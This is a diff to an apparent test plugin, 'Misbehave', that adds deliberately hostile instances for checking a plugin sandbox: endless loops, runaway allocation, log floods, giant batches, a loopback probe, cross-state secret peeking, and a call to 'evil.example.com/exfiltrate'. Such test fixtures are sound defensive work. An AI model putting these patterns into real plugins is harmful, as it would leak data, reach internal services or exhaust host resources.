@@ -33,6 +33,14 @@ impl Plugin for Misbehave {
             instance_types: vec![
                 instance_type("ok", "emits one batch with one object"),
                 instance_type("noop", "returns at once, for benchmarks"),
+                instance_type("loop", "never returns"),
+                instance_type("alloc", "allocates memory until something stops it"),
+                instance_type("undeclared-host", "calls a host it did not declare"),
+                instance_type("loopback", "calls 127.0.0.1 directly"),
+                instance_type("giant-emit", "emits a 16 MiB batch"),
+                instance_type("log-flood", "writes 100,000 log lines, then succeeds"),
+                instance_type("state-write", "stores a secret in its state"),
+                instance_type("state-peek", "reports what it can read of state key \"secret\""),
                 instance_type("trap", "panics in fetch"),
                 instance_type("slow", "emits thing-1, checkpoints, sleeps 3 s, emits thing-2; resumes after thing-1"),
             ],
@@ -46,6 +54,46 @@ impl Plugin for Misbehave {
                 Ok(FetchSummary { items_seen: 1, note: None })
             }
             "noop" => Ok(FetchSummary { items_seen: 0, note: None }),
+            "loop" => {
+                let mut n: u64 = 0;
+                loop {
+                    n = std::hint::black_box(n.wrapping_add(1));
+                }
+            }
+            "alloc" => {
+                let mut hoard: Vec<Vec<u8>> = Vec::new();
+                loop {
+                    hoard.push(vec![1u8; 16 << 20]);
+                }
+            }
+            "undeclared-host" => {
+                http::get("https://evil.example.com/exfiltrate").send()?;
+                Ok(FetchSummary::default())
+            }
+            "loopback" => {
+                http::get("http://127.0.0.1:5432/").send()?;
+                Ok(FetchSummary::default())
+            }
+            "giant-emit" => {
+                emit_json("thing", &json!({"id": "huge", "blob": "x".repeat(16 << 20)}))?;
+                Ok(FetchSummary::default())
+            }
+            "log-flood" => {
+                for n in 0..100_000 {
+                    log::info(format!("line {n}"));
+                }
+                emit_json("thing", &json!({"id": "after-flood", "name": "still fine"}))?;
+                Ok(FetchSummary { items_seen: 1, note: None })
+            }
+            "state-write" => {
+                state::set("secret", "only-for-state-write");
+                Ok(FetchSummary::default())
+            }
+            "state-peek" => {
+                let seen = state::get("secret").unwrap_or_else(|| "nothing".into());
+                emit_json("thing", &json!({"id": "peek", "name": seen}))?;
+                Ok(FetchSummary { items_seen: 1, note: None })
+            }
             "trap" => panic!("deliberate panic in fetch"),
             "slow" => {
                 // A cursor in state makes a rescued run continue where the
